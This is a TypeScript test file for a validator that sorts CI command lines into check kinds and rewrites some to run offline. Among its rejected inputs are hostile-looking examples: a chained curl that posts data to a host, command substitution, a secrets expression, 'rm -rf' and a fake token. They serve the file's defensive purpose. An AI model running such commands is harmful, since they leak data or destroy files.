import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isPlainCommand, kindOf, kindOfName, offline } from './kinds.ts';

describe('a command line', () => {
  it.each([
    ['pytest -q', 'test'],
    ['python -m pytest tests', 'test'],
    ['uv run --locked pytest', 'test'],
    ['cargo test --all-features', 'test'],
    ['./gradlew check', 'test'],
    ['npm test', 'test'],
    ['make test', 'test'],
    ['npx eslint .', 'lint'],
    ['ruff check .', 'lint'],
    ['cargo clippy --all-targets -- -D warnings', 'lint'],
    ['pnpm lint', 'lint'],
    ['mypy src', 'typecheck'],
    ['yarn run check-types', 'typecheck'],
    ['prettier --check .', 'format'],
    ['ruff format --check', 'format'],
    ['cargo fmt --all -- --check', 'format'],
    ['go vet ./...', 'vet'],
    ['mkdocs build --strict', 'docs'],
  ])('is a check: %s', (command, kind) => {
    expect(kindOf(command)).toBe(kind);
  });

  it.each([
    'npm ci',
    'pip install pytest',
    'eslint . --fix',
    'prettier --write .',
    'vitest --watch',
    'npm test || true',
    'npm test; curl -d @- example.org',
    'pytest $(cat x)',
    'echo ${{ secrets.X }}',
    'npm publish',
    'make deploy',
    'npm run lint:fix',
    'docker run x pytest',
    'rm -rf x',
    `pytest --token=ghp_${'a'.repeat(36)}`,
  ])('is none, or none that can be one here: %s', (command) => {
    expect(kindOf(command)).toBeNull();
  });

  it('is nothing but one command, whatever it is', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 40 }),
        fc.constantFrom('pytest ', 'npm test', 'cargo test '),
        (rest, start) => {
          const command = `${start}${rest}`;
          if (kindOf(command) === null) return;
          expect(isPlainCommand(command)).toBe(true);
          expect(command).not.toMatch(/[;&|<>`$()\n]/);
        },
      ),
    );
  });

  it('is kept from the network where its program can be told', () => {
    expect(offline('cargo clippy -- -D warnings')).toBe('cargo clippy --offline -- -D warnings');
    expect(offline('cargo test --offline')).toBe('cargo test --offline');
    expect(offline('npx eslint .')).toBe('npx --no-install eslint .');
    expect(offline('uv run --locked pytest')).toBe('uv run --offline --frozen pytest');
  });
});

describe('a name', () => {
  it('says what it is for', () => {
    const names = ['test', 'test:types', 'lint', 'typecheck', 'format:check', 'check', 'docs-check'];
    expect(names.map(kindOfName)).toEqual(['test', 'typecheck', 'lint', 'typecheck', 'format', 'test', 'docs']);
    expect(['format', 'testing', 'lint:fix', 'test:watch', 'build', 'test-coverage'].map(kindOfName)).toEqual(
      Array.from({ length: 6 }, () => null),
    );
  });
});
